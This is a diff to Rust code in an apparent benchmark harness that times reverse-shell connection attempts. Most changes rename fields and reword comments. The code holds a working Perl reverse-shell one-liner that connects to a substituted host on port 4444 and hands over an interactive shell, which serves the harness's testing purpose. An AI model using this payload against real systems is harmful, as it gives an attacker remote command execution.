@@ -14,17 +14,17 @@ const SPAN_MAX: Duration = Duration::from_secs(1);
 /// How often a shell is tried that does not connect in that time.
 const TRIES_MAX: usize = 10;
 
-/// Tries to send a shell to a host that has nobody to take it, and says its own number and when it tried.
+/// Tries to send a shell to a host that does not accept it, and prints its own pid and the time.
 const REVERSE_SHELL: &str = "perl -MSocket -MTime::HiRes=clock_gettime,CLOCK_MONOTONIC -e '\
     socket(S, PF_INET, SOCK_STREAM, 6); $to = sockaddr_in(4444, inet_aton(\"ADDRESS\")); \
     $at = clock_gettime(CLOCK_MONOTONIC); connect(S, $to) and exec(\"sh -i <&3 >&3 2>&3\"); \
     printf \"%d %.6f\\n\", $$, $at' || echo nothing";
 
-/// A shell on the host that is attacked, which does what it is told.
+/// A shell on the host that is attacked, which runs the commands on its standard input.
 pub(in crate::bench) struct Attacker {
     shell: Child,
-    tell: ChildStdin,
-    hear: BufReader<ChildStdout>,
+    stdin: ChildStdin,
+    stdout: BufReader<ChildStdout>,
     command: String,
 }
 
@@ -43,10 +43,10 @@ impl Attacker {
 
     fn by(mut shell: Command, hosts: &Hosts) -> Result<Self> {
         let mut shell = shell.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().context("bash")?;
-        let (tell, hear) = (shell.stdin.take(), shell.stdout.take());
+        let (stdin, stdout) = (shell.stdin.take(), shell.stdout.take());
         let command = REVERSE_SHELL.replace("ADDRESS", hosts.far.address());
-        let (tell, hear) = tell.zip(hear).context("bash has no pipes")?;
-        Ok(Self { shell, tell, hear: BufReader::new(hear), command })
+        let (stdin, stdout) = stdin.zip(stdout).context("bash has no pipes")?;
+        Ok(Self { shell, stdin, stdout: BufReader::new(stdout), command })
     }
 
     /// Tries a reverse shell and returns its process and when it called `connect`, in seconds of the monotonic clock.
@@ -63,9 +63,9 @@ impl Attacker {
     }
 
     fn try_once(&mut self) -> Result<(u64, f64)> {
-        writeln!(self.tell, "{}", self.command).context("bash has gone")?;
+        writeln!(self.stdin, "{}", self.command).context("bash has gone")?;
         let mut said = String::new();
-        self.hear.read_line(&mut said)?;
+        self.stdout.read_line(&mut said)?;
         let words = said.trim_end().split_once(' ');
         let read = words.and_then(|(pid, time)| Some((pid.parse().ok()?, time.parse().ok()?)));
         read.with_context(|| format!("perl said `{}`; install perl", said.trim_end()))
